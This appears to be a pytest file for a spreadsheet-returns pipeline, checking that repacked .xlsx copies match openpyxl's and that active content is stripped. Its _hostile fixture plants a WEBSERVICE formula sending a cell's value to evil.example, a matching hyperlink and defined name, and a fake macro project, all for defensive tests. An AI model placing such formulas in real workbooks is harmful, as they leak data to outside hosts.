"""Returned copies made by editing the unit's package (pipeline/write/repack.py) say what
openpyxl's copies say (returns.py's openpyxl_copy is the oracle), keep the unit's package part
for part, take out what could act, and hand what they cannot be sure of to openpyxl."""
from __future__ import annotations

import io
from copy import copy
import shutil
import zipfile
from pathlib import Path

import pytest
from defusedxml import ElementTree
from openpyxl import load_workbook
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName

from conftest import build, needs_soffice
from formkit import formgen as g
from pipeline.run import run
from pipeline.write.ooxml_edit import Unsure
from pipeline.write.repack import repack
from pipeline.write.returns import openpyxl_copy, return_job, return_tasks
from returns_compare import differences, said


def tasks_of(inbox: Path, out: Path) -> list[tuple]:
    report = run(inbox, out, jobs=1, returns=False, summary=False)
    for r in report.results:
        r.return_name = str(Path(r.file).with_suffix(".xlsx"))
    return [t for _, t in return_tasks(report)]


def both(task) -> tuple[bytes, bytes]:
    """(the package edited in place, openpyxl's copy) of one task."""
    src, _, content, _ = task
    data = Path(src).read_bytes()
    fast = repack(data, content)
    buf = io.BytesIO()
    openpyxl_copy(Path(src), data, content).save(buf)
    return fast, buf.getvalue()


def assert_sound(data: bytes) -> None:
    """Every part deflated, every XML part parses, every part has a content type, every
    relationship's part exists."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert {i.compress_type for i in z.infolist()} == {zipfile.ZIP_DEFLATED}
        assert z.testzip() is None   # every part inflates to its CRC (copied parts too)
        names = set(z.namelist())
        types = ElementTree.fromstring(z.read("[Content_Types].xml"))
        ns = "{http://schemas.openxmlformats.org/package/2006/content-types}"
        overrides = {e.get("PartName").lstrip("/") for e in types.iter(ns + "Override")}
        defaults = {e.get("Extension").lower() for e in types.iter(ns + "Default")}
        for name in names:
            if name.endswith((".xml", ".rels", ".vml")):
                ElementTree.fromstring(z.read(name))
            if name != "[Content_Types].xml":
                assert name in overrides or name.rsplit(".", 1)[-1].lower() in defaults, name
        assert overrides <= names, overrides - names
        for name in [n for n in names if n.endswith(".rels")]:
            folder = name.replace("_rels/", "").rsplit(".rels", 1)[0].rsplit("/", 1)[0] if "/" in name.replace("_rels/", "") else ""
            for rel in ElementTree.fromstring(z.read(name)):
                if rel.get("TargetMode") == "External":
                    continue
                t = rel.get("Target")
                path = t.lstrip("/") if t.startswith("/") else "/".join(p for p in (folder, t) if p)
                parts = []
                for p in path.split("/"):
                    if p == "..":
                        parts.pop()
                    elif p not in ("", "."):
                        parts.append(p)
                assert "/".join(parts) in names, (name, t)


@pytest.fixture(scope="module")
def drifted(tmp_path_factory) -> Path:
    """Forms of several layouts with planted discrepancies: merged, blank and formula cells flagged."""
    inbox = tmp_path_factory.mktemp("fast") / "in"
    inbox.mkdir()
    build(inbox / "plain.xlsx", seed=301, plants=["identity", "rollup"])
    build(inbox / "blank_summary.xlsx", g.Drift(summary_blank=True, gap_rows=1), seed=302, plants=["identity"])
    build(inbox / "formulas.xlsx", g.Drift(formulas=True, row_offset=2, col_offset=1), seed=303,
          plants=["identity"], writer="op")
    build(inbox / "cover.xlsx", g.Drift(cover=True, report_sheet=True, text_numbers=True), seed=304,
          plants=["rollup"])
    return inbox


def test_fast_copies_say_what_openpyxls_say(drifted, tmp_path):
    tasks = tasks_of(drifted, tmp_path / "out")
    assert len(tasks) == 4
    for task in tasks:
        fast, slow = both(task)
        assert_sound(fast)
        assert differences(said(slow), said(fast)) == [], task[1]
        wb = load_workbook(io.BytesIO(fast))
        assert wb.sheetnames[0] == "问题清单" and wb.active.title == "问题清单"
        flagged = [r for r in task[2]["rows"] if r["cell"]]
        assert flagged and all(r["message"] in _spot(wb, r["sheet"], r["cell"]).comment.text for r in flagged)


def _raw(data: bytes, info: zipfile.ZipInfo) -> bytes:
    """A member's bytes as stored (deflated), after its local header."""
    at = info.header_offset
    n, e = int.from_bytes(data[at + 26:at + 28], "little"), int.from_bytes(data[at + 28:at + 30], "little")
    return data[at + 30 + n + e:at + 30 + n + e + info.compress_size]


def test_the_units_package_is_kept_part_for_part(drifted, tmp_path):
    """Parts the marks do not touch come back byte for byte; the flagged sheet keeps every cell
    but the flagged ones' style; the unit's styles are extended, not rewritten."""
    task = next(t for t in tasks_of(drifted, tmp_path / "out") if t[1] == "plain.xlsx")
    src = Path(task[0]).read_bytes()
    fast = repack(src, task[2])
    wb = load_workbook(io.BytesIO(src))   # the same form with a sheet that no finding is on
    wb.create_sheet("附表")["A1"] = "说明"
    buf = io.BytesIO()
    wb.save(buf)
    extra = buf.getvalue()
    for data, copy in ((src, fast), (extra, repack(extra, task[2]))):
        with zipfile.ZipFile(io.BytesIO(data)) as a, zipfile.ZipFile(io.BytesIO(copy)) as b:
            untouched = [n for n in a.namelist() if n in b.namelist() and a.read(n) == b.read(n)]
            if data is src:
                assert {"xl/sharedStrings.xml", "xl/theme/theme1.xml"} <= set(untouched)
            else:   # the sheet no finding is on
                assert "xl/worksheets/sheet2.xml" in untouched
            for n in untouched:   # copied as their deflated bytes (an unflagged sheet too), not deflated again
                ia, ib = a.getinfo(n), b.getinfo(n)
                assert (ib.compress_type, ib.CRC, ib.compress_size) == (ia.compress_type, ia.CRC, ia.compress_size), n
                assert _raw(copy, ib) == _raw(data, ia), n
    with zipfile.ZipFile(io.BytesIO(src)) as a, zipfile.ZipFile(io.BytesIO(fast)) as b:
        old, new = a.read("xl/styles.xml").decode(), b.read("xl/styles.xml").decode()
        assert new.count("<xf ") > old.count("<xf ") and new.count('rgb="FFFFC7CE"') >= 1
    before, after = load_workbook(io.BytesIO(src)), load_workbook(io.BytesIO(fast))
    ws0, ws1 = before.worksheets[0], after[before.sheetnames[0]]
    marked = {r["cell"] for r in task[2]["rows"] if r["cell"]}
    for row in ws0.iter_rows():
        for c in row:
            d = ws1[c.coordinate]
            assert d.value == c.value, c.coordinate
            if c.coordinate not in marked:
                assert look(d) == look(c), c.coordinate
    for cell in marked:
        assert look(ws1[cell])[1] == look(ws0[cell])[1] and ws1[cell].fill.fgColor.rgb[-6:] in ("FFC7CE", "FFEB9C")


def look(c):
    """(font, border, number format) of a cell, as values (openpyxl's style proxies compare oddly)."""
    return copy(c.font), copy(c.border), c.number_format


def _hostile(src: Path, dst: Path) -> None:
    """A form with what must not act in a returned copy, and the unit's own comments."""
    wb = load_workbook(src)
    ws = wb.worksheets[0]
    ws["K1"] = '=WEBSERVICE("http://evil.example/?"&B3)'
    ws["K2"] = "=SUM(K3:K4)"
    ws["K3"], ws["K4"] = 1, 2
    ws["K5"] = "官网 <&> 'x'"
    ws["K5"].hyperlink = "http://evil.example/"
    ws["K6"].comment = Comment("单位自己的批注 <&>", "填表人")
    wb.defined_names["leak"] = DefinedName("leak", attr_text='WEBSERVICE("http://evil.example/")')
    wb.defined_names["area"] = DefinedName("area", attr_text=f"'{ws.title}'!$A$1:$C$5")
    ws.print_title_rows = "1:3"
    wb.save(dst)


def test_what_could_act_is_taken_out_and_the_units_comments_stay(tmp_path):
    src = tmp_path / "src.xlsx"
    build(src, seed=305, unit="A&B <单位>", plants=["identity"])
    inbox = tmp_path / "in"
    inbox.mkdir()
    _hostile(src, inbox / "h.xlsx")
    task = tasks_of(inbox, tmp_path / "out")[0]
    fast, slow = both(task)
    assert_sound(fast)
    assert differences(said(slow), said(fast)) == []
    wb = load_workbook(io.BytesIO(fast))
    ws = wb.worksheets[1]
    assert (ws["K1"].data_type, ws["K1"].value) == ("s", '=WEBSERVICE("http://evil.example/?"&B3)')
    assert (ws["K2"].data_type, ws["K2"].value) == ("f", "=SUM(K3:K4)")
    assert ws["K5"].value == "官网 <&> 'x'" and ws["K5"].hyperlink is None
    assert ws["K6"].comment.text == "单位自己的批注 <&>" and ws["K6"].comment.author == "填表人"
    assert "leak" not in wb.defined_names and "area" in wb.defined_names
    assert ws.print_title_rows.replace("$", "") == "1:3"
    with zipfile.ZipFile(io.BytesIO(fast)) as z:
        assert not [n for n in z.namelist() if "externalLink" in n or "calcChain" in n]
        assert not [n for n in z.namelist() if n.endswith(".rels") and b"evil.example" in z.read(n)]
    head = wb["问题清单"].oddHeader.left.text
    assert "A&&B" in head   # a literal & in a print header is written &&


def test_a_copy_sent_back_is_marked_again_in_place(drifted, tmp_path):
    """Round two: the unit's answer (its returned copy with 说明 written, saved by openpyxl) and
    the copy itself resubmitted: the old 问题清单 is replaced, earlier comments give way to new."""
    from collect_support import fill_return

    first = tmp_path / "first"
    run(drifted, first, jobs=1)
    inbox = tmp_path / "again"
    inbox.mkdir()
    fill_return(first / "returns" / "plain.xlsx", inbox / "answer.xlsx", {"INC-001": "已核实"})
    shutil.copy(first / "returns" / "blank_summary.xlsx", inbox / "copy.xlsx")
    tasks = tasks_of(inbox, tmp_path / "out")
    assert {t[1] for t in tasks} == {"answer.xlsx", "copy.xlsx"}
    for task in tasks:
        fast, slow = both(task)
        assert_sound(fast)
        assert differences(said(slow), said(fast)) == [], task[1]
        wb = load_workbook(io.BytesIO(fast))
        assert wb.sheetnames.count("问题清单") == 1 and wb.sheetnames[0] == "问题清单"


def test_what_it_cannot_be_sure_of_goes_through_openpyxl(tmp_path):
    """A drawing on a sheet (here a chart) is not this path's: Unsure, and the run still returns
    the copy, through openpyxl."""
    from openpyxl.chart import BarChart, Reference

    src = tmp_path / "src.xlsx"
    build(src, seed=306, plants=["identity"])
    wb = load_workbook(src)
    ws = wb.worksheets[0]
    chart = BarChart()
    chart.add_data(Reference(ws, min_col=3, min_row=12, max_row=14))
    ws.add_chart(chart, "K2")
    inbox = tmp_path / "in"
    inbox.mkdir()
    wb.save(inbox / "chart.xlsx")
    task = tasks_of(inbox, tmp_path / "out")[0]
    with pytest.raises(Unsure):
        repack(Path(task[0]).read_bytes(), task[2])
    folder = tmp_path / "returns"
    assert return_job(*task, str(folder)) == "chart.xlsx"
    ret = load_workbook(folder / "chart.xlsx")
    assert ret.sheetnames[0] == "问题清单" and ret.worksheets[1]._charts


@needs_soffice
def test_libreoffice_reads_the_fast_copy(drifted, tmp_path):
    import subprocess

    task = next(t for t in tasks_of(drifted, tmp_path / "out") if t[1] == "blank_summary.xlsx")
    fast = tmp_path / "fast.xlsx"
    fast.write_bytes(repack(Path(task[0]).read_bytes(), task[2]))
    exe = shutil.which("soffice") or shutil.which("libreoffice")
    p = subprocess.run([exe, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to",
                        "xlsx:Calc MS Excel 2007 XML", "--outdir", str(tmp_path / "lo"), str(fast)],
                       capture_output=True, timeout=300)
    assert p.returncode == 0
    back = load_workbook(tmp_path / "lo" / "fast.xlsx")
    assert back.sheetnames[0] == "问题清单"
    flagged = {_spot(back, r["sheet"], r["cell"]) for r in task[2]["rows"] if r["cell"]}
    got = [c for ws in back.worksheets[1:] for row in ws.iter_rows() for c in row if c.comment]
    assert len(got) == len(flagged) and set(got) == flagged


def _spot(wb, sheet: str, cell: str):
    """The cell a finding flags: its own sheet or the one it names, a merge's top-left."""
    if "!" in cell:
        sheet, cell = cell.split("!", 1)
    ws = wb[sheet.strip("'")]
    for rng in ws.merged_cells.ranges:
        if cell in rng:
            return ws.cell(rng.min_row, rng.min_col)
    return ws[cell]


@needs_soffice
def test_an_xls_comes_back_rebuilt_and_marked(tmp_path):
    """.xls: the grid rebuilt as a package (rebuild.py), then marked like an .xlsx: values and
    merges as the reader saw them, borders over table rows, the title large, A4 one page wide."""
    from formkit import formwrite as fw
    from pipeline.read.open import read_book

    build(tmp_path / "old.xlsx", seed=307, unit="旧格式单位", plants=["identity", "text"])
    inbox = tmp_path / "in"
    inbox.mkdir()
    fw.convert([tmp_path / "old.xlsx"], "xls", inbox)
    task = tasks_of(inbox, tmp_path / "out")[0]
    folder = tmp_path / "returns"
    assert return_job(*task, str(folder)) == "old.xlsx"
    data = (folder / "old.xlsx").read_bytes()
    assert_sound(data)
    wb = load_workbook(io.BytesIO(data))
    grid = read_book(Path(task[0]), Path(task[0]).read_bytes()).sheets[0]
    ws = wb[grid.name]
    assert wb.sheetnames == ["问题清单", grid.name]
    for (r, c), v in grid.values.items():
        assert ws.cell(r + 1, c + 1).value == v
    assert {str(m) for m in ws.merged_cells.ranges} == {
        f"{ws.cell(r1 + 1, c1 + 1).coordinate}:{ws.cell(r2 + 1, c2 + 1).coordinate}" for r1, c1, r2, c2 in grid.merged}
    title = min(grid.values)
    assert ws.cell(title[0] + 1, title[1] + 1).font.sz == 14 and ws.cell(title[0] + 1, title[1] + 1).border.left.style is None
    amounts = [rc for rc, v in grid.values.items() if isinstance(v, float)]
    assert amounts and all(ws.cell(r + 1, c + 1).border.left.style == "thin" for r, c in amounts)
    assert all(ws.cell(r + 1, c + 1).number_format.startswith("#,##0.") for r, c in amounts)
    assert (int(ws.page_setup.paperSize), ws.page_setup.fitToWidth, ws.sheet_properties.pageSetUpPr.fitToPage) == (9, 1, True)
    for r in task[2]["rows"]:
        if r["cell"]:
            assert r["message"] in _spot(wb, r["sheet"], r["cell"]).comment.text
    text = next(r for r in task[2]["rows"] if r["rule"] == "TXT-001")
    assert _spot(wb, text["sheet"], text["cell"]).fill.fgColor.rgb[-6:] == "FFC7CE"


@pytest.mark.parametrize("edit", [
    (b"<sheetData>", b'<sheetData><!-- <c r="C13" s="1"/> -->'),      # a cell's reference in a comment
    (b'<c r="C13"', b'<c r ="C13"'),                                    # spaces around =
])
def test_xml_these_edits_would_misread_goes_through_openpyxl(tmp_path, edit):
    src = tmp_path / "src.xlsx"
    build(src, seed=308, plants=["identity"])
    inbox = tmp_path / "in"
    inbox.mkdir()
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(inbox / "odd.xlsx", "w", zipfile.ZIP_DEFLATED) as zout:
        for name in zin.namelist():
            data = zin.read(name)
            if name == "xl/worksheets/sheet1.xml":
                assert edit[0] in data
                data = data.replace(*edit)
            zout.writestr(name, data)
    task = tasks_of(inbox, tmp_path / "out")[0]
    with pytest.raises(Unsure):
        repack(Path(task[0]).read_bytes(), task[2])
    folder = tmp_path / "returns"
    return_job(*task, str(folder))
    wb = load_workbook(folder / "odd.xlsx")
    assert wb.sheetnames[0] == "问题清单"
    assert all(r["message"] in _spot(wb, r["sheet"], r["cell"]).comment.text for r in task[2]["rows"] if r["cell"])


def test_macros_and_their_signature_do_not_come_back(tmp_path):
    """An .xlsm: the copy has no macro project, no signature, and says it is a plain workbook."""
    src = tmp_path / "src.xlsx"
    build(src, seed=309, plants=["identity"])
    inbox = tmp_path / "in"
    inbox.mkdir()
    macro_ct = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(inbox / "m.xlsm", "w", zipfile.ZIP_DEFLATED) as zout:
        for name in zin.namelist():
            data = zin.read(name)
            if name == "[Content_Types].xml":
                data = data.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                                    macro_ct.encode()).replace(b"</Types>", b'<Default Extension="bin" ContentType='
                                    b'"application/vnd.ms-office.vbaProject"/></Types>')
            if name == "xl/_rels/workbook.xml.rels":
                data = data.replace(b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/'
                                    b'office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
            zout.writestr(name, data)
        zout.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 not a real project")
        zout.writestr("xl/vbaProjectSignature.bin", b"signature")
        zout.writestr("xl/_rels/vbaProject.bin.rels",
                      '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                      'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/'
                      '2006/relationships/vbaProjectSignature" Target="vbaProjectSignature.bin"/></Relationships>')
    task = tasks_of(inbox, tmp_path / "out")[0]
    assert task[1] == "m.xlsx"
    fast = repack(Path(task[0]).read_bytes(), task[2])
    assert_sound(fast)
    with zipfile.ZipFile(io.BytesIO(fast)) as z:
        assert not [n for n in z.namelist() if "vba" in n.lower()]
        types = z.read("[Content_Types].xml").decode()
        assert "macroEnabled" not in types and "spreadsheetml.sheet.main+xml" in types
    assert load_workbook(io.BytesIO(fast)).sheetnames[0] == "问题清单"
